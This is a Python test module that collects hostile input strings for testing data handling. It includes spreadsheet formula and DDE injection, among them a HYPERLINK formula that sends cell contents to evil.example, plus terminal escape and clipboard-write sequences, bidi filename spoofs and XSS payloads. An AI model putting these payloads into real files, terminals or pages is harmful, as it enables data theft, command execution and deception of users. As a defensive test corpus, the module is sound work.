"""Hostile text, by class of attack: for tests of every place data is read, stored, printed or exported.

Every value here is text a partner file, an override reason or a program could hold. Importable by
any test (``from hostile_corpus import ...``). Each class has several variants, because a defence
that stops one spelling of an attack often lets the next one through.

- FORMULAS: spreadsheet formula and DDE injection (a CSV or XLSX cell that Excel, LibreOffice or
  Google Sheets would run); tab- and CR-led ones too.
- MARKUP: square brackets that Rich/Textual markup would read as styles or links.
- ESCAPES: terminal escape sequences: CSI (clear, colour), OSC (window title, clipboard write),
  DCS, and the 8-bit CSI.
- OVERWRITE: carriage return and backspace, which rewrite what a terminal line shows.
- BIDI: bidirectional overrides and isolates, which reorder what is shown.
- ZERO_WIDTH: zero-width spaces, joiners and the byte-order mark.
- NUL: the NUL character (PostgreSQL cannot store it; C APIs cut text at it).
- LONG: very long text.
- EMOJI: emoji and flag sequences (legitimate text that must survive unchanged).
- HTML: markup and script for an HTML page or an e-mail (partner-facing scorecards).
"""

from __future__ import annotations

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "=1+1",
    "\t=1+1",
    '\r=HYPERLINK("http://evil.example")',
    "=cmd|'/C notepad'!'A1'",
]
MARKUP = [
    "[/b]",
    "[link=http://evil.example]EMEA[/link]",
    "ACME [UK] Ltd",
    "[bold red on white]loud[/]",
    "[@click=app.quit]x[/]",
]
ESCAPES = [
    "\x1b[2J\x1b[31mRED",
    "\x1b]0;title\x07",
    "\x1b]52;c;ZXZpbCBjbGlwYm9hcmQ=\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x9b31mC1-CSI",
]
OVERWRITE = [
    "strategic\r    1  approved",
    "ok\rEVIL",
    "abc\x08\x08\x08XYZ",
]
BIDI = [
    "\u202eevil.exe",
    "abc\u2066def\u2069",
    "\u200fRLM mark",
    "invoice\u202dgpj.exe",
]
ZERO_WIDTH = [
    "Acme\u200b",
    "\u2060Acme",
    "A\u200dB",
    "\ufeffAcme",
]
NUL = [
    "nul\x00byte",
    "\x00",
]
LONG = [
    "n" * 100_000,
    "é" * 5_000,
]
EMOJI = [
    "🏆 Gold partner",
    "👨\u200d👩\u200d👧 family",
    "🇩🇪 Berlin",
]

HTML = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><style>body{display:none}</style>",
    "Tom & Jerry's <b>Telecom</b>",
    "{{ 7*7 }} {% raw %}",
]

CLASSES: dict[str, list[str]] = {
    "formula": FORMULAS,
    "markup": MARKUP,
    "escape": ESCAPES,
    "overwrite": OVERWRITE,
    "bidi": BIDI,
    "zero-width": ZERO_WIDTH,
    "nul": NUL,
    "long": LONG,
    "emoji": EMOJI,
    "html": HTML,
}
ALL: list[tuple[str, str]] = [(kind, value) for kind, values in CLASSES.items() for value in values]
STORABLE: list[tuple[str, str]] = [(k, v) for k, v in ALL if "\x00" not in v]  # every class but NUL

# Values usable as partner ids: printable, nothing around them (strict reading refuses the rest).
PARTNER_IDS = [
    v for v in FORMULAS + MARKUP + EMOJI if v.isprintable() and v == v.strip() and len(v) < 200 and "\u200d" not in v
]

# What a terminal must never receive raw from data: ESC, the 8-bit CSI, BEL, BS, CR, and the
# bidirectional controls.
TERMINAL_CONTROLS = frozenset("\x1b\x9b\x07\x08\r\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f")


def raw_controls(text: str) -> set[str]:
    """The terminal controls ``text`` holds raw (empty: safe to print)."""
    return set(text) & TERMINAL_CONTROLS


def formula_like(cell: object) -> bool:
    """True when a spreadsheet would read the text cell ``cell`` as a formula."""
    return isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES)
